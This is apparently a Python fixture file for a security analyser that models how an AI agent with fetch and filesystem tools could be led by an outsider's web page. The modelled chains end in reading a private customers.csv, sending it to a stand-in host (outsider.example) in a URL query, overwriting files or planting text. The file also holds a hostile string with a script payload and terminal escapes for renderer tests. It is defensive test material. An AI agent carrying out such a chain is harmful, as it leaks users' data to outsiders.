"""Escalations made by hand, one for each thing that a report or a store must cope with."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

from trebuchet.model.escalation import (
    ESCALATION_SCHEMA,
    Bound,
    Choke,
    Cut,
    Escalation,
    EscalationPath,
    Fault,
    Flow,
    GoalReached,
    Hop,
)
from trebuchet.model.place import Place
from trebuchet.model.vocabulary import Severity

HOSTILE = "\x1b[31m<script>alert(1)</script>\u202eev il\u200b\n" + "支付" * 60


def hop(tool: str, row: str, gains: str, sentence: str, **over: Any) -> Hop:
    """A call of `SERVER#TOOL` that nothing stops."""
    server, _, name = tool.partition("#")
    fields: dict[str, Any] = {
        "move": row,
        "server": server,
        "tool": name,
        "arguments": {},
        "gains": tuple(gains.split()),
        "effect": "allow",
        "rule": None,
        "source": Place("open.json", 1, 30),
        "message": "",
        "sentence": sentence,
    }
    return Hop(**{**fields, **over})


FETCH_PAGE = hop(
    "fetch#fetch",
    "ingest-untrusted",
    "tainted",
    "fetch reads what an outsider wrote: nothing denies it (open.json:1:30)",
    arguments={"url": "https://outsider.example/page"},
)
READ_FILE = hop(
    "filesystem#read_file",
    "read-private",
    "data(private/own)",
    "read_file puts a private file into the session: nothing denies it (open.json:1:30)",
    arguments={"path": "/home/agent/work/customers.csv"},
    others=(
        "filesystem#read_media_file",
        "filesystem#read_multiple_files",
        "filesystem#read_text_file",
        "filesystem#search_files",
    ),
    needs=("tainted",),
)
SEND_URL = hop(
    "fetch#fetch",
    "send-external",
    "goal(exfiltrated)",
    "fetch carries what was read to the outsider, in the query of an address",
    arguments={"url": "https://outsider.example/c?d=aWQsbmFtZSxlbWFpbAox"},
    needs=("tainted", "data(private/own)"),
)
WRITE_FILE = hop(
    "filesystem#write_file",
    "overwrite",
    "goal(corrupted)",
    "write_file puts the outsider's text in the place of a file: "
    'a person is asked by "action" (open.json:4:21)',
    arguments={"path": "/home/agent/work/README.md", "content": "text of the outsider"},
    others=("filesystem#edit_file",),
    effect="ask",
    rule="tools.write_file.action",
    source=Place("open.json", 4, 21),
    message="approval is required",
    needs=("tainted",),
    flow=Flow(hour=20, day=200),
)
PLANT = hop(
    "filesystem#create_directory",
    "plant",
    "planted(filesystem) goal(persisted)",
    "create_directory leaves the outsider's text in a name that is read later",
    arguments={"path": "/home/agent/work/read-me-first"},
    needs=("tainted",),
)


def path(goal: str, *hops: Hop, **over: Any) -> EscalationPath:
    """A path of these calls."""
    fields: dict[str, Any] = {
        "id": f"{goal}-{len(hops)}-{hops[-1].tool}",
        "goal": goal,
        "start": "outsider",
        "severity": Severity.HIGH,
        "held": any(one.effect == "ask" for one in hops),
        "hops": hops,
        "ways": 1,
        "flow": Flow(),
    }
    return EscalationPath(**{**fields, **over})


def goal(name: str, title: str, *paths: EscalationPath, **over: Any) -> GoalReached:
    """A goal that is reached by these paths."""
    fields: dict[str, Any] = {
        "goal": name,
        "title": title,
        "severity": paths[0].severity if paths else Severity.CRITICAL,
        "reachable": any(not one.held for one in paths),
        "held": bool(paths) and all(one.held for one in paths),
        "paths": paths,
        "found": len(paths),
        "bounded": False,
    }
    return GoalReached(**{**fields, **over})


def escalation(*goals: GoalReached, **over: Any) -> Escalation:
    """What was found on fetch and filesystem under one policy."""
    fields: dict[str, Any] = {
        "schema_version": ESCALATION_SCHEMA,
        "trebuchet": "0.1.0",
        "id": "8c1f02aa41d97be3",
        "start": "outsider",
        "servers": ("fetch", "filesystem"),
        "policies": {"fetch": "open.json", "filesystem": "open.json"},
        "tools": 15,
        "moves": 19,
        "goals": goals,
        "bound": Bound(hops=8, chains=64, hit=False),
        "faults": (),
        "unclassified": (),
    }
    return Escalation(**{**fields, **over})


CUT = Choke(
    cuts=(
        Cut(
            server="fetch",
            tool="fetch",
            moves=("send-external",),
            what="fetch to an address outside docs.ourco.example",
            fragment='"fetch": {"deny_if": [{"conditions": [{"path": "args.url", "op": "regex", '
            '"value": "^https://(?!docs\\\\.ourco\\\\.example/)"}]}]}',
            breaks=("release-notes",),
        ),
    ),
    breaks=("release-notes",),
    exact=True,
    gap=0,
    proven=True,
)

PLAIN = escalation(
    goal(
        "exfiltrated",
        "data reaches somebody who should not have it",
        path("exfiltrated", FETCH_PAGE, READ_FILE, SEND_URL, ways=5),
        path(
            "exfiltrated",
            FETCH_PAGE,
            hop(
                "filesystem#list_directory",
                "enumerate",
                "knows(filesystem)",
                "list_directory tells the names of the files",
                arguments={"path": "/home/agent/work"},
                needs=("tainted",),
            ),
            READ_FILE,
            SEND_URL,
            flow=Flow(hour=60, day=1440),
        ),
        found=3,
        choke=CUT,
        others=(CUT,),
    ),
    goal("destroyed", "things are lost for good"),
    goal(
        "corrupted",
        "things are changed against their owner's will",
        path(
            "corrupted", FETCH_PAGE, WRITE_FILE, flow=Flow(hour=20, day=200), ways=2,
            severity=Severity.MEDIUM, attacks=("file-rewritten",),
        ),
        choke=Choke(
            cuts=(), breaks=(), exact=False, gap=2, proven=False, note="every way is held already"
        ),
    ),
    goal("executed", "code of the attacker runs"),
    goal(
        "persisted",
        "the attacker's text stays where it is read later",
        path("persisted", FETCH_PAGE, PLANT, severity=Severity.MEDIUM),
        bounded=True,
        choke=Choke(
            cuts=(
                Cut(
                    server="filesystem",
                    tool="create_directory",
                    moves=("plant",),
                    what="create_directory altogether",
                    fragment="",
                    breaks=(),
                ),
            ),
            breaks=(),
            exact=False,
            gap=1,
            proven=False,
            note="the rule cannot be written in this dialect from here",
        ),
    ),
    goal("paid", "value leaves"),
    unclassified=("filesystem#mystery",),
    faults=(Fault(goal="paid", tools=("fetch#fetch",), reason="the second call was denied"),),
    notes=("the world is assumed: --world FILE says yours",),
)  # fmt: skip

SAFE = escalation(
    goal("exfiltrated", "data reaches somebody who should not have it"),
    goal("destroyed", "things are lost for good"),
    policies={"fetch": "closed.json", "filesystem": "closed.json"},
    moves=2,
)

BOUNDED = escalation(
    goal("exfiltrated", "data reaches somebody who should not have it", bounded=True),
    bound=Bound(hops=3, chains=8, hit=True),
)


def _hostile() -> Escalation:
    bad = READ_FILE.model_copy(
        update={
            "server": HOSTILE,
            "tool": HOSTILE,
            "arguments": {HOSTILE: HOSTILE},
            "rule": HOSTILE,
            "message": HOSTILE,
            "sentence": HOSTILE,
            "source": Place(HOSTILE, 1, 1),
            "others": (f"{HOSTILE}#{HOSTILE}",),
        }
    )
    choke = Choke(
        cuts=(
            Cut(
                server=HOSTILE,
                tool=HOSTILE,
                moves=(HOSTILE,),
                what=HOSTILE,
                fragment=HOSTILE,
                breaks=(HOSTILE,),
            ),
        ),
        breaks=(HOSTILE,),
        exact=False,
        gap=3,
        proven=False,
        note=HOSTILE,
    )
    own = goal(HOSTILE, HOSTILE, path(HOSTILE, FETCH_PAGE, bad), choke=choke)
    leak = goal("exfiltrated", HOSTILE, path("exfiltrated", FETCH_PAGE, bad, SEND_URL), choke=choke)
    return escalation(
        leak,
        own,
        servers=("fetch", HOSTILE),
        policies={"fetch": HOSTILE, HOSTILE: HOSTILE},
        start=f"hostile-server:{HOSTILE}",
        unclassified=(HOSTILE,),
        notes=(HOSTILE,),
        faults=(Fault(goal=HOSTILE, tools=(HOSTILE,), reason=HOSTILE),),
    )


ESCALATIONS: Mapping[str, Escalation] = {
    "plain": PLAIN,
    "safe": SAFE,
    "bounded": BOUNDED,
    "hostile": _hostile(),
}
"""Every escalation by name."""
